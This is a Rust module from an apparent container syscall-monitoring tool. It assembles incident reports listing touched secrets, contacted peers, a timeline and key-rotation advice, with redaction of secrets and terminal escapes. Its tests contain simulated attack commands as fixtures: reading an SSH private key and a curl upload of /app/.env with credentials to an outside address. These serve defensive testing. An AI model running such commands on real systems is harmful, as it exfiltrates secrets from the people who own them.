//! What an incident's page says, made of alert, decisions, events and quarantine. Everything is JSON as the other commands print it.

use std::collections::BTreeMap;

use actions::redact::{MARK, command_line, redact, value_of};
use serde::Serialize;
use serde_json::Value;

use super::secrets;
use crate::show;

/// Entries of one list; what is more is counted.
const MOST: usize = 40;

/// A secret that was touched.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Touched {
    pub what: String,
    /// File, or the command that held it.
    pub place: String,
    pub first: String,
    pub by: String,
    pub event: String,
}

/// Somebody on the network.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Peer {
    pub address: String,
    pub first: String,
    pub last: String,
    pub times: u64,
    pub by: Vec<String>,
}

/// One line of what happened.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Line {
    pub time: String,
    pub what: String,
    pub alerts: Vec<String>,
}

/// The page.
#[derive(Clone, Debug, Default, PartialEq, Serialize)]
pub struct Report {
    pub schema: String,
    pub id: String,
    pub severity: String,
    pub title: String,
    pub why: String,
    pub time: String,
    pub container: Option<String>,
    pub image: Option<String>,
    pub certain: bool,
    pub process: String,
    pub command: String,
    pub ancestors: Vec<String>,
    pub decisions: Vec<String>,
    /// Where the container is now, and how it comes back.
    pub quarantine: Option<String>,
    pub evidence: Option<String>,
    pub other_alerts: Vec<String>,
    pub timeline: Vec<Line>,
    pub secrets: Vec<Touched>,
    /// Names of secret-looking variables in the container's environment.
    pub environment: Vec<String>,
    pub peers: Vec<Peer>,
    pub rotate: Vec<String>,
    /// Times when nobody watched, and records that were lost.
    pub unseen: Vec<String>,
    /// Entries that found no place in the lists above.
    pub left_out: u64,
}

/// What the page is made of.
#[derive(Clone, Debug, Default)]
pub struct Material {
    pub alert: Value,
    pub decisions: Vec<Value>,
    pub events: Vec<Value>,
    pub alerts: Vec<Value>,
    pub notices: Vec<Value>,
    pub quarantine: Option<Value>,
    /// `NAME=VALUE` of the container, from its evidence.
    pub environment: Vec<String>,
}

/// Text without secrets and without what a terminal would obey.
fn clean(text: &str) -> String {
    crate::output::visible(&redact(text)).into_owned()
}

fn text(json: &Value, pointer: &str) -> String {
    clean(json.pointer(pointer).and_then(Value::as_str).unwrap_or(""))
}

fn strings<'a>(json: &'a Value, pointer: &str) -> Vec<&'a str> {
    let list = json.pointer(pointer).and_then(Value::as_array);
    list.into_iter()
        .flatten()
        .filter_map(Value::as_str)
        .collect()
}

impl Report {
    /// Puts the page together. Events may come in any order.
    pub fn of(mut material: Material) -> Self {
        material.events.sort_by_key(show::millis);
        let alert = &material.alert;
        let at = show::millis(alert);
        let mut report = Self {
            schema: "syscall-monitor/incident/1".into(),
            id: text(alert, "/id"),
            severity: text(alert, "/severity"),
            title: text(alert, "/title"),
            why: clean(
                &alert["description"]
                    .as_str()
                    .unwrap_or_default()
                    .split_whitespace()
                    .collect::<Vec<_>>()
                    .join(" "),
            ),
            time: text(alert, "/time"),
            container: alert.get("container").filter(|c| c.is_object()).map(|_| {
                let id = text(alert, "/container/id");
                format!(
                    "{} ({})",
                    text(alert, "/container/name"),
                    id.get(..12).unwrap_or(&id)
                )
            }),
            image: Some(text(alert, "/container/image")).filter(|t| !t.is_empty()),
            certain: alert
                .pointer("/attribution/certain")
                .and_then(Value::as_bool)
                == Some(true),
            process: format!(
                "{} (pid {}, user {})",
                text(alert, "/exe"),
                alert.get("pid").map(Value::to_string).unwrap_or_default(),
                text(alert, "/user")
            ),
            command: crate::output::visible(&command_line(&strings(alert, "/argv"))).into_owned(),
            ancestors: alert
                .get("ancestors")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .map(|a| text(a, "/comm"))
                .collect(),
            decisions: material
                .decisions
                .iter()
                .map(|d| format!("{}: {}", text(d, "/verdict"), text(d, "/reason")))
                .collect(),
            quarantine: material.quarantine.as_ref().map(quarantine),
            evidence: material.quarantine.as_ref().and_then(evidence),
            other_alerts: material
                .alerts
                .iter()
                .filter(|a| a.get("id") != alert.get("id"))
                .map(|a| {
                    format!(
                        "{} {} {} ({})",
                        text(a, "/time"),
                        text(a, "/id"),
                        text(a, "/title"),
                        text(a, "/severity")
                    )
                })
                .collect(),
            unseen: material.notices.iter().filter_map(unseen).collect(),
            ..Self::default()
        };
        report.environment = material
            .environment
            .iter()
            .filter_map(|pair| pair.split_once('='))
            .filter(|(name, value)| !value.is_empty() && value_of(name, value) == MARK)
            .map(|(name, _)| clean(name))
            .collect();
        let first_secret = report.touched(&material);
        // What went out after the first sign of it.
        report.contacted(&material.events, first_secret.map_or(at, |t| t.min(at)));
        report.happened(&material.events);
        report.advise();
        report.left_out += [
            cut(&mut report.other_alerts),
            cut(&mut report.timeline),
            cut(&mut report.secrets),
            cut(&mut report.peers),
            cut(&mut report.unseen),
        ]
        .iter()
        .sum::<u64>();
        report
    }

    /// Secrets in paths and arguments, each place once; gives the time of the first one.
    fn touched(&mut self, material: &Material) -> Option<u64> {
        let mut first = None;
        let mut kinds: Vec<&'static str> = vec![];
        for event in material.events.iter().chain([&material.alert]) {
            let mut found: Vec<(&secrets::Kind, String)> = vec![];
            let argv = match event.pointer("/process/argv") {
                Some(_) => strings(event, "/process/argv"),
                None => strings(event, "/argv"),
            };
            let paths = event.get("paths").and_then(Value::as_array);
            for path in paths.into_iter().flatten() {
                if let Some(path) = path.get("path").and_then(Value::as_str)
                    && let Some(kind) = secrets::in_path(path)
                {
                    found.push((kind, path.to_owned()));
                }
            }
            for word in argv.iter().flat_map(|a| secrets::words(a)) {
                if let Some(kind) = secrets::in_path(word) {
                    found.push((kind, word.to_owned()));
                }
            }
            let line = command_line(&argv);
            if line.contains(MARK) {
                found.push((&secrets::ARGUMENT, line));
            }
            for (kind, place) in found {
                first.get_or_insert(show::millis(event));
                if !kinds.contains(&kind.rotate) {
                    kinds.push(kind.rotate);
                }
                let place = clean(&place);
                if self.secrets.iter().any(|t| t.place == place) {
                    continue;
                }
                self.secrets.push(Touched {
                    what: kind.what.into(),
                    place,
                    first: text(event, "/time"),
                    by: program(event),
                    event: event
                        .get("event")
                        .or_else(|| event.get("id"))
                        .and_then(Value::as_str)
                        .map(clean)
                        .unwrap_or_default(),
                });
            }
        }
        self.rotate = kinds.into_iter().map(str::to_owned).collect();
        first
    }

    fn contacted(&mut self, events: &[Value], since: u64) {
        let mut peers: BTreeMap<String, Peer> = BTreeMap::new();
        let mut order = vec![];
        for event in events.iter().filter(|e| show::millis(e) >= since) {
            let Some(address) = peer(event) else { continue };
            let time = text(event, "/time");
            let entry = peers.entry(address.clone()).or_insert_with(|| {
                order.push(address.clone());
                Peer {
                    address,
                    first: time.clone(),
                    last: time.clone(),
                    times: 0,
                    by: vec![],
                }
            });
            entry.times += 1;
            entry.last = time;
            let by = program(event);
            if !entry.by.contains(&by) && entry.by.len() < 4 {
                entry.by.push(by);
            }
        }
        self.peers = order.iter().filter_map(|a| peers.remove(a)).collect();
    }

    /// Events that say something: with an alert, of a program that was started, of a peer.
    fn happened(&mut self, events: &[Value]) {
        for event in events {
            let alerts = strings(event, "/alerts");
            let is_exec = event.pointer("/syscall/name").and_then(Value::as_str);
            let started = matches!(is_exec, Some("execve" | "execveat"));
            if alerts.is_empty() && !started && peer(event).is_none() {
                continue;
            }
            let argv = strings(event, "/process/argv");
            let what = match (started, peer(event)) {
                (true, _) => format!("started {}", short(&command_line(&argv))),
                (_, Some(peer)) => format!("{} → {peer}", program(event)),
                _ => short(&show::what(event)),
            };
            self.timeline.push(Line {
                time: text(event, "/time"),
                what: clean(&what),
                alerts: alerts.into_iter().map(clean).collect(),
            });
        }
        // The lines nearest to an alert are the ones that matter.
        if self.timeline.len() > MOST
            && let Some(at) = self
                .timeline
                .iter()
                .position(|l| l.alerts.contains(&self.id))
        {
            let from = at.saturating_sub(MOST / 2);
            self.left_out += from as u64;
            self.timeline.drain(..from);
        }
    }

    fn advise(&mut self) {
        if !self.environment.is_empty() {
            self.rotate.push(format!(
                "replace what stood in the container's environment, which each of its processes could read: {}",
                self.environment.join(", ")
            ));
        }
        if self.container.is_some() && self.rotate.is_empty() {
            self.rotate.push("no secret is known to have been touched; what the container could read is not safe all the same when the program was hostile: its environment, its mounts, its agent's logins".into());
        }
    }
}

fn cut<T>(list: &mut Vec<T>) -> u64 {
    let more = list.len().saturating_sub(MOST);
    list.truncate(MOST);
    more as u64
}

fn short(text: &str) -> String {
    crate::output::cut(text, 160)
}

fn program(event: &Value) -> String {
    let exe = match event.pointer("/process/exe") {
        Some(_) => text(event, "/process/exe"),
        None => text(event, "/exe"),
    };
    let pid = event.pointer("/process/pid").or_else(|| event.get("pid"));
    format!(
        "{exe} (pid {})",
        pid.map(Value::to_string).unwrap_or_default()
    )
}

/// The other end of a connection that is not this very host.
fn peer(event: &Value) -> Option<String> {
    let call = event.pointer("/syscall/name").and_then(Value::as_str)?;
    if !matches!(call, "connect" | "sendto" | "sendmsg" | "sendmmsg") {
        return None;
    }
    let address = event.pointer("/socket/address").and_then(Value::as_str)?;
    let ip: std::net::IpAddr = address.parse().ok()?;
    if ip.is_loopback() || ip.is_unspecified() {
        return None;
    }
    let port = event.pointer("/socket/port").and_then(Value::as_u64);
    let port = u16::try_from(port.unwrap_or(0)).ok()?;
    // Port 0 is how a resolver asks which address it would use: nothing is sent.
    (port > 0).then(|| std::net::SocketAddr::new(ip, port).to_string())
}

fn quarantine(q: &Value) -> String {
    let name = text(q, "/name");
    match q.get("released_at").and_then(Value::as_u64) {
        Some(at) => format!("released at {}", crate::times::rfc3339(at)),
        None => format!(
            "frozen since {}; release it with: {}",
            crate::times::rfc3339(q.get("at_ms").and_then(Value::as_u64).unwrap_or(0)),
            actions::message::release_command(&name, &text(q, "/container_id"))
        ),
    }
}

fn evidence(q: &Value) -> Option<String> {
    let dir = q.pointer("/evidence/dir").and_then(Value::as_str)?;
    Some(clean(dir))
}

fn unseen(notice: &Value) -> Option<String> {
    let details = |p: &str| text(notice, &format!("/details/{p}"));
    match notice.get("what").and_then(Value::as_str)? {
        "gap" => Some(format!(
            "nobody watched from {} to {}",
            details("start"),
            details("end")
        )),
        "loss" => Some(format!(
            "records were lost before {}",
            text(notice, "/time")
        )),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn event(time: u64, name: &str, argv: &[&str], more: Value) -> Value {
        let mut event = json!({
            "id": format!("{time}.000:1"), "time": crate::times::rfc3339(time * 1000),
            "syscall": {"name": name},
            "process": {"pid": 42, "exe": "/usr/bin/curl", "argv": argv},
            "alerts": [], "paths": [],
        });
        for (key, value) in more.as_object().unwrap() {
            event[key] = value.clone();
        }
        event
    }

    fn material() -> Material {
        let alert = json!({
            "id": "A-7", "number": 7, "time": crate::times::rfc3339(1_772_361_015_000), "time_ms": 1_772_361_015_000_u64,
            "severity": "high", "title": "Key file read", "description": "A key\nfile was read.",
            "container": {"id": "ab".repeat(32), "name": "openclaw-gateway", "image": "openclaw:local"},
            "attribution": {"certain": true, "source": "table"},
            "pid": 42, "exe": "/bin/cat", "user": "node",
            "argv": ["cat", "/home/node/.ssh/id_rsa"], "ancestors": [{"comm": "sh"}, {"comm": "node"}],
            "event": "1772361015.000:1",
        });
        let peer = |address: &str, port: u16| json!({"socket": {"address": address, "port": port}});
        Material {
            events: vec![
                event(
                    1_772_361_020,
                    "connect",
                    &["curl"],
                    peer("203.0.113.9", 443),
                ),
                event(
                    1_772_361_000,
                    "connect",
                    &["curl"],
                    peer("198.51.100.1", 443),
                ),
                event(
                    1_772_361_021,
                    "connect",
                    &["curl"],
                    peer("203.0.113.9", 443),
                ),
                event(1_772_361_022, "connect", &["curl"], peer("127.0.0.1", 80)),
                event(
                    1_772_361_015,
                    "execve",
                    &["cat", "/home/node/.ssh/id_rsa"],
                    json!({"alerts": ["A-7"]}),
                ),
                event(
                    1_772_361_019,
                    "execve",
                    &[
                        "curl",
                        "-u",
                        "me:hunter2secret",
                        "-F",
                        "f=@/app/.env",
                        "https://203.0.113.9/\u{1b}[2J",
                    ],
                    json!({}),
                ),
                event(
                    1_772_361_017,
                    "openat",
                    &["sh"],
                    json!({"paths": [{"path": "/run/secrets/db"}]}),
                ),
            ],
            decisions: vec![
                json!({"verdict": "notify-only", "reason": "the rule asks for an alert"}),
            ],
            environment: vec!["OPENAI_API_KEY=sk-abc".into(), "HOME=/root".into()],
            notices: vec![json!({"what": "gap", "details": {"start": "S", "end": "E"}})],
            quarantine: Some(
                json!({"name": "openclaw-gateway", "at_ms": 0, "container_id": "ab".repeat(32),
                "evidence": {"dir": "/var/lib/x"}}),
            ),
            alert,
            ..Material::default()
        }
    }

    #[test]
    fn the_page_says_what_was_touched_who_was_contacted_and_what_to_rotate() {
        let report = Report::of(material());
        let places: Vec<_> = report.secrets.iter().map(|s| s.place.as_str()).collect();
        assert_eq!(
            places[..3],
            ["/home/node/.ssh/id_rsa", "/run/secrets/db", "/app/.env"]
        );
        let peers: Vec<_> = report
            .peers
            .iter()
            .map(|p| (p.address.as_str(), p.times))
            .collect();
        assert_eq!(peers, [("203.0.113.9:443", 2)], "not before, not this host");
        let rotate = report.rotate.join("\n");
        for word in ["SSH key", "mounted into", "OPENAI_API_KEY", "command line"] {
            assert!(rotate.contains(word), "{word} in {rotate}");
        }
        assert!(!rotate.contains("HOME"));
        assert_eq!(report.unseen, ["nobody watched from S to E"]);
        assert_eq!(report.evidence.as_deref(), Some("/var/lib/x"));
        assert!(
            report
                .quarantine
                .unwrap()
                .contains("quarantine release openclaw-gateway")
        );
        assert_eq!(report.why, "A key file was read.");
    }

    #[test]
    fn no_secret_and_no_control_character_is_on_the_page() {
        let page = serde_json::to_string(&Report::of(material())).unwrap();
        for bad in ["hunter2secret", "sk-abc", "\\u001b", "\u{1b}"] {
            assert!(!page.contains(bad), "{bad} in {page}");
        }
    }

    #[test]
    fn a_long_story_is_cut_around_its_alert_and_says_so() {
        let mut material = material();
        for n in 0..500 {
            material
                .events
                .push(event(1_772_360_000 + n, "execve", &["true"], json!({})));
        }
        let report = Report::of(material);
        assert_eq!(report.timeline.len(), MOST / 2 + 4);
        assert!(report.timeline.iter().any(|l| l.alerts == ["A-7"]));
        assert!(report.left_out >= 480, "{}", report.left_out);
    }

    #[test]
    fn a_host_s_alert_has_no_container_and_nothing_to_rotate() {
        let mut material = material();
        material.alert["container"] = Value::Null;
        material.alert["argv"] = json!(["ls"]);
        material.events.clear();
        material.environment.clear();
        let report = Report::of(material);
        assert_eq!((report.container, report.rotate.len()), (None, 0));
    }
}
